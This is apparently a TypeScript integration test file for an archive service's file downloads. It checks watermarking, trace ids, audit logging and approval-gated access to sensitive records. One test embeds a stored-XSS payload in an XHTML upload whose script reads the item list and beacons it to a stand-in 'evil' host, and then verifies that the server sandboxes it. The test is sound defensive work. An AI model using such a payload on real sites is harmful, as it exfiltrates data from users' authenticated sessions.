import crypto from 'node:crypto';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestUser, testUser } from '../../test/helpers/access.js';
import { blank, inkedShare, renderPdfPages } from '../../test/helpers/images.js';
import {
  fileOneItem,
  openTestSystem,
  storage,
  streamOf,
  type TestSystem,
} from '../../test/helpers/system.js';
import { addFile } from '../modules/storage/file.service.js';
import { TRACE_ID_PATTERN } from '../modules/watermark/stamp.js';
import { type App, buildApp } from './app.js';

// Every copy that leaves over HTTP: PDFs and images carry a visible watermark (who, when, what for,
// trace id), other formats leave unchanged; either way the read is logged under the copy's trace id,
// which the 安全审计员 can look up. Real server over a socket, real rendering (librsvg, poppler).

let system: TestSystem;
let app: App;
let base: string;
let archiveCode: string;
let sensitiveCode: string;
/** Attaches and downloads files (档案员). */
let archivist: TestUser;
/** Reads the sensitive item under an approved request (经办人员). */
let clerk: TestUser;
/** Approves access requests (安全保密员). */
let secadmin: TestUser;
/** Reads the audit trail (安全审计员). */
let auditor: TestUser;

beforeAll(async () => {
  system = await openTestSystem();
  archiveCode = await fileOneItem(system);
  sensitiveCode = await fileOneItem(system, {
    sensitivity: 'sensitive',
    title: '王建国 门诊慢特病待遇认定表',
  });
  archivist = await testUser(system.database.db, { roles: ['archivist'], username: 'archivist-wm' });
  clerk = await testUser(system.database.db, { roles: ['clerk'], username: 'clerk-wm' });
  secadmin = await testUser(system.database.db, { roles: ['secadmin'] });
  auditor = await testUser(system.database.db, { roles: ['auditor'] });
  app = await buildApp({ database: system.database, store: system.store, signingKey: system.signingKey });
  base = await app.listen({ port: 0, host: '127.0.0.1' });
});
afterAll(async () => {
  await app?.close();
  await system?.dispose();
});

const filesUrl = (code: string) => `${base}/api/v1/items/${encodeURIComponent(code)}/files`;
const sha256 = (content: Buffer) => `sha256:${crypto.createHash('sha256').update(content).digest('hex')}`;

function call(url: string, user: TestUser, init: RequestInit = {}) {
  return fetch(url, { ...init, headers: { ...(init.headers as Record<string, string>), ...user.headers } });
}

interface Added {
  fileNumber: number;
  fileName: string;
  mediaType: string;
  digest: string;
  size: number;
}

async function upload(code: string, content: Buffer, name: string): Promise<Added> {
  const form = new FormData();
  form.append('file', new Blob([content]), name);
  const response = await call(filesUrl(code), archivist, { method: 'POST', body: form });
  expect(response.status, await response.clone().text()).toBe(201);
  const added = (await response.json()) as Added;
  expect(added.digest).toBe(sha256(content));
  return added;
}

interface Download {
  status: number;
  headers: Headers;
  body: Buffer;
}

async function download(
  code: string,
  fileNumber: number,
  query: Record<string, string> = {},
  user: TestUser = archivist,
): Promise<Download> {
  const search = new URLSearchParams(query).toString();
  const response = await call(`${filesUrl(code)}/${fileNumber}${search ? `?${search}` : ''}`, user);
  return {
    status: response.status,
    headers: response.headers,
    body: Buffer.from(await response.arrayBuffer()),
  };
}

interface AuditEntry {
  actor: string;
  action: string;
  subject: string;
  purpose: string | null;
  grantId: number | null;
  payload: Record<string, unknown>;
}

async function eventsByTrace(trace: string): Promise<AuditEntry[]> {
  const response = await call(`${base}/api/v1/audit/events?trace=${encodeURIComponent(trace)}`, auditor);
  expect(response.status).toBe(200);
  return ((await response.json()) as { entries: AuditEntry[] }).entries;
}

/** The headers every delivered copy carries; returns its trace id. */
function expectDelivered(got: Download, original: Added, watermark: 'visible' | 'none'): string {
  expect(got.status, got.body.toString('utf8').slice(0, 300)).toBe(200);
  const trace = got.headers.get('x-yidang-trace') as string;
  expect(trace).toMatch(TRACE_ID_PATTERN);
  expect(got.headers.get('x-yidang-watermark')).toBe(watermark);
  // The stored original's digest, not the marked copy's.
  expect(got.headers.get('x-yidang-digest')).toBe(original.digest);
  expect(got.headers.get('cache-control')).toBe('no-store');
  return trace;
}

async function samplePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  pdf.addPage([595, 842]).drawText('Reimbursement 2024-0001', { x: 50, y: 780, size: 14, font });
  pdf.addPage([842, 595]).drawText('Settlement list', { x: 50, y: 540, size: 14, font });
  pdf.setKeywords(['original']);
  return Buffer.from(await pdf.save());
}

async function sampleTiff(): Promise<Buffer> {
  const page = (shade: string) =>
    sharp({ create: { width: 620, height: 877, channels: 3, background: shade } })
      .png()
      .toBuffer();
  return sharp([await page('#ffffff'), await page('#fefefe')], { join: { animated: true } })
    .tiff()
    .withMetadata({ density: 75 })
    .toBuffer();
}

describe('downloading a watermarked copy over HTTP', () => {
  let pdf: Buffer;
  let pdfFile: Added;

  beforeAll(async () => {
    pdf = await samplePdf();
    pdfFile = await upload(archiveCode, pdf, '结算单.pdf');
    expect(pdfFile.mediaType).toBe('application/pdf');
  });

  it('marks every page of a PDF, keeps the pages, puts the trace id in its metadata', async () => {
    const got = await download(archiveCode, pdfFile.fileNumber, { purpose: '复核报销' });
    const trace = expectDelivered(got, pdfFile, 'visible');
    expect(got.headers.get('content-type')).toBe('application/pdf');
    const disposition = got.headers.get('content-disposition') as string;
    expect(disposition).toMatch(/^attachment;/);
    expect(disposition).toContain(encodeURIComponent('结算单.pdf'));
    expect(got.body.equals(pdf)).toBe(false);

    const copy = await PDFDocument.load(got.body);
    expect(copy.getPageCount()).toBe(2);
    expect(copy.getPages().map((page) => [page.getWidth(), page.getHeight()])).toEqual([
      [595, 842],
      [842, 595],
    ]);
    expect(copy.getKeywords()).toContain(trace);
    expect(copy.getSubject()).toContain(trace);

    const before = renderPdfPages(pdf);
    const after = renderPdfPages(got.body);
    expect(after).toHaveLength(2);
    for (const [index, rendered] of after.entries())
      expect(await inkedShare(rendered)).toBeGreaterThan((await inkedShare(before[index] as Buffer)) + 0.01);
  });

  it('gives every download its own trace id, each found once in the audit trail with its purpose', async () => {
    const first = await download(archiveCode, pdfFile.fileNumber, { purpose: '核对结算金额' });
    const second = await download(archiveCode, pdfFile.fileNumber);
    const firstTrace = expectDelivered(first, pdfFile, 'visible');
    const secondTrace = expectDelivered(second, pdfFile, 'visible');
    expect(firstTrace).not.toBe(secondTrace);
    expect(first.body.equals(second.body)).toBe(false);

    const found = await eventsByTrace(firstTrace);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      actor: archivist.username,
      action: 'file.read',
      subject: `item:${archiveCode}`,
      purpose: '核对结算金额',
      grantId: null,
      payload: {
        fileNumber: pdfFile.fileNumber,
        digest: pdfFile.digest,
        grantId: null,
        purpose: '核对结算金额',
        traceId: firstTrace,
      },
    });
    // Without a purpose (and no grant) the event says none; the id is read back case-insensitively.
    const unstated = await eventsByTrace(secondTrace.toLowerCase());
    expect(unstated).toHaveLength(1);
    expect(unstated[0]).toMatchObject({
      actor: archivist.username,
      action: 'file.read',
      purpose: null,
      payload: { traceId: secondTrace, purpose: null },
    });
    expect(await eventsByTrace('YD-0000-0000-00')).toEqual([]);
    // The trail is the auditor's alone.
    const denied = await call(`${base}/api/v1/audit/events?trace=${firstTrace}`, archivist);
    expect(denied.status).toBe(403);
  });

  it('serves the copy inline when asked, for viewing in the browser', async () => {
    const got = await download(archiveCode, pdfFile.fileNumber, { inline: 'true', purpose: '在线查看' });
    expectDelivered(got, pdfFile, 'visible');
    expect(got.headers.get('content-disposition')).toMatch(/^inline; /);
    expect((await PDFDocument.load(got.body)).getPageCount()).toBe(2);
  });

  it('marks a PNG in place, keeping its size and type', async () => {
    const png = await blank(600, 400).png().toBuffer();
    const added = await upload(archiveCode, png, '报销单.png');
    expect(added.mediaType).toBe('image/png');
    const got = await download(archiveCode, added.fileNumber, { purpose: '复核' });
    expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('content-disposition')).toContain(encodeURIComponent('报销单.png'));
    expect(got.body.equals(png)).toBe(false);
    const meta = await sharp(got.body).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['png', 600, 400]);
    expect(await inkedShare(png)).toBe(0);
    expect(await inkedShare(got.body)).toBeGreaterThan(0.01);
  });

  it('marks a JPEG and keeps it a JPEG', async () => {
    const jpeg = await blank(500, 300).jpeg().toBuffer();
    const added = await upload(archiveCode, jpeg, 'scan.jpg');
    expect(added.mediaType).toBe('image/jpeg');
    const got = await download(archiveCode, added.fileNumber);
    expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('image/jpeg');
    expect(got.headers.get('content-disposition')).toContain('scan.jpg');
    expect(got.body.equals(jpeg)).toBe(false);
    const meta = await sharp(got.body).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['jpeg', 500, 300]);
    expect(await inkedShare(got.body)).toBeGreaterThan(0.01);
  });

  it('delivers a two-page TIFF as a PDF named .pdf with both pages marked', async () => {
    const tiff = await sampleTiff();
    const added = await upload(archiveCode, tiff, '病历扫描.tif');
    expect(added.mediaType).toBe('image/tiff');
    const got = await download(archiveCode, added.fileNumber, { purpose: '调阅病历' });
    const trace = expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('application/pdf');
    const disposition = got.headers.get('content-disposition') as string;
    expect(disposition).toContain(encodeURIComponent('病历扫描.pdf'));
    expect(disposition).not.toContain('.tif');
    const copy = await PDFDocument.load(got.body);
    expect(copy.getPageCount()).toBe(2);
    // 620 × 877 pixels at 75 dpi: A4.
    expect(Math.round(copy.getPage(0).getWidth())).toBe(595);
    const pages = renderPdfPages(got.body);
    expect(pages).toHaveLength(2);
    for (const page of pages) expect(await inkedShare(page)).toBeGreaterThan(0.01);
    const found = await eventsByTrace(trace);
    expect(found).toHaveLength(1);
    expect(found[0]?.payload).toMatchObject({ digest: added.digest, purpose: '调阅病历', traceId: trace });
  });

  it('delivers a GIF as a marked PNG named .png', async () => {
    const gif = await blank(300, 200).gif().toBuffer();
    const added = await upload(archiveCode, gif, '票据.gif');
    expect(added.mediaType).toBe('image/gif');
    const got = await download(archiveCode, added.fileNumber);
    expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('content-disposition')).toContain(encodeURIComponent('票据.png'));
    const meta = await sharp(got.body).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['png', 300, 200]);
    expect(await inkedShare(got.body)).toBeGreaterThan(0.01);
  });

  // WebP is recognised by its RIFF/WEBP signature, so its copies are marked like any other image.
  it('marks a WebP image in place', async () => {
    const webp = await blank(300, 200).webp().toBuffer();
    const added = await upload(archiveCode, webp, '报销单.webp');
    const got = await download(archiveCode, added.fileNumber);
    expect(got.status).toBe(200);
    expect(got.headers.get('x-yidang-watermark')).toBe('visible');
    expect(got.headers.get('content-type')).toBe('image/webp');
  });

  // An uploaded XHTML-in-XML with a script must not run in the API's origin (stored XSS): copies are
  // sent with nosniff and a sandboxing content security policy.
  it('does not let an unmarked XML file run as a page in the browser', async () => {
    const xhtml = Buffer.from(
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
        '<script>fetch("/api/v1/items").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>' +
        '</body></html>',
    );
    const added = await upload(archiveCode, xhtml, '结算清单.xml');
    expect(added.mediaType).toBe('application/xml');
    const got = await download(archiveCode, added.fileNumber, { inline: 'true' });
    expectDelivered(got, added, 'none');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    const sandboxed = /sandbox/.test(got.headers.get('content-security-policy') ?? '');
    const attachment = (got.headers.get('content-disposition') ?? '').startsWith('attachment');
    expect(sandboxed || attachment).toBe(true);
  });

  it('streams a text file unchanged, unmarked but still traced', async () => {
    const text = Buffer.from('医保结算清单\n合计：1234.50 元\n');
    const added = await upload(archiveCode, text, '结算说明.txt');
    expect(added.mediaType).toBe('text/plain');
    const got = await download(archiveCode, added.fileNumber, { purpose: '核对' });
    const trace = expectDelivered(got, added, 'none');
    expect(got.body.equals(text)).toBe(true);
    expect(got.headers.get('content-length')).toBe(String(text.length));
    const found = await eventsByTrace(trace);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      actor: archivist.username,
      action: 'file.read',
      purpose: '核对',
      payload: { fileNumber: added.fileNumber, digest: added.digest, traceId: trace },
    });
  });

  it('refuses a PDF it cannot mark (400 WATERMARK_FAILED in Chinese) and delivers nothing of it', async () => {
    const fake = Buffer.concat([Buffer.from('%PDF-1.7\n'), crypto.randomBytes(4096)]);
    const added = await upload(archiveCode, fake, '损坏的发票.pdf');
    expect(added.mediaType).toBe('application/pdf');
    const got = await download(archiveCode, added.fileNumber, { purpose: '复核' });
    expect(got.status).toBe(400);
    expect(got.headers.get('content-type')).toMatch(/^application\/json/);
    expect(got.headers.get('x-yidang-trace')).toBeNull();
    expect(got.headers.get('x-yidang-watermark')).toBeNull();
    expect(got.headers.get('content-disposition')).toBeNull();
    const body = JSON.parse(got.body.toString('utf8')) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('WATERMARK_FAILED');
    expect(body.error.message).toContain('无法为该文件加盖水印');
    expect(body.error.message).toContain('不予导出');
    // Not a byte of the stored content in the answer.
    expect(got.body.includes(fake.subarray(9, 41))).toBe(false);
    // A copy that never left is not a read: no file.read for this file.
    const reads = await system.database.db
      .selectFrom('integrity_event')
      .select('payload')
      .where('action', '=', 'file.read')
      .where('subject', '=', `item:${archiveCode}`)
      .execute();
    const payloads = reads.map((row) => JSON.parse(String(row.payload)) as { fileNumber: number });
    expect(payloads.filter((payload) => payload.fileNumber === added.fileNumber)).toEqual([]);
  });

  it('refuses an over-long purpose before reading anything', async () => {
    const got = await download(archiveCode, pdfFile.fileNumber, { purpose: '查'.repeat(201) });
    expect(got.status).toBe(400);
    expect(got.headers.get('x-yidang-trace')).toBeNull();
  });
});

describe('downloading a file of a sensitive item', () => {
  let pdf: Buffer;
  let added: Added;
  const GRANT_PURPOSE = '复核慢特病认定材料';

  beforeAll(async () => {
    pdf = await samplePdf();
    // Attached by an internal caller (no user scope): the archivist would need a grant of their own.
    added = await addFile(
      storage(system),
      sensitiveCode,
      { stream: streamOf(pdf), fileName: '认定表.pdf' },
      'test',
    );
    expect(added.mediaType).toBe('application/pdf');
  });

  it('is refused without an approved request, and the refusal delivers no copy', async () => {
    const got = await download(sensitiveCode, added.fileNumber, { purpose: '看看' }, clerk);
    expect(got.status).toBe(403);
    expect(JSON.parse(got.body.toString('utf8')).error.code).toBe('GRANT_REQUIRED');
    expect(got.headers.get('x-yidang-trace')).toBeNull();
    const reads = await call(`${base}/api/v1/audit/events?actor=${clerk.username}&action=file.read`, auditor);
    expect(((await reads.json()) as { entries: unknown[] }).entries).toEqual([]);
  });

  it('is delivered marked under an approved request, logged with the grant and its purpose', async () => {
    const asked = await call(`${base}/api/v1/access-requests`, clerk, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ items: [sensitiveCode], purpose: GRANT_PURPOSE }),
    });
    expect(asked.status, await asked.clone().text()).toBe(201);
    const grantId = ((await asked.json()) as { id: number }).id;
    const approved = await call(`${base}/api/v1/access-requests/${grantId}/approve`, secadmin, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{}',
    });
    expect(approved.status, await approved.clone().text()).toBe(200);

    // No purpose given: the stamp and the log take the grant's.
    const got = await download(sensitiveCode, added.fileNumber, {}, clerk);
    const trace = expectDelivered(got, added, 'visible');
    const copy = await PDFDocument.load(got.body);
    expect(copy.getPageCount()).toBe(2);
    expect(copy.getKeywords()).toContain(trace);
    const found = await eventsByTrace(trace);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      actor: clerk.username,
      action: 'file.read',
      subject: `item:${sensitiveCode}`,
      purpose: GRANT_PURPOSE,
      grantId,
      payload: { grantId, purpose: GRANT_PURPOSE, traceId: trace, digest: added.digest },
    });

    // A purpose given with the read is kept; the grant is still named.
    const stated = await download(sensitiveCode, added.fileNumber, { purpose: '打印存档' }, clerk);
    const statedTrace = expectDelivered(stated, added, 'visible');
    expect((await eventsByTrace(statedTrace))[0]).toMatchObject({
      actor: clerk.username,
      purpose: '打印存档',
      grantId,
    });
  });
});
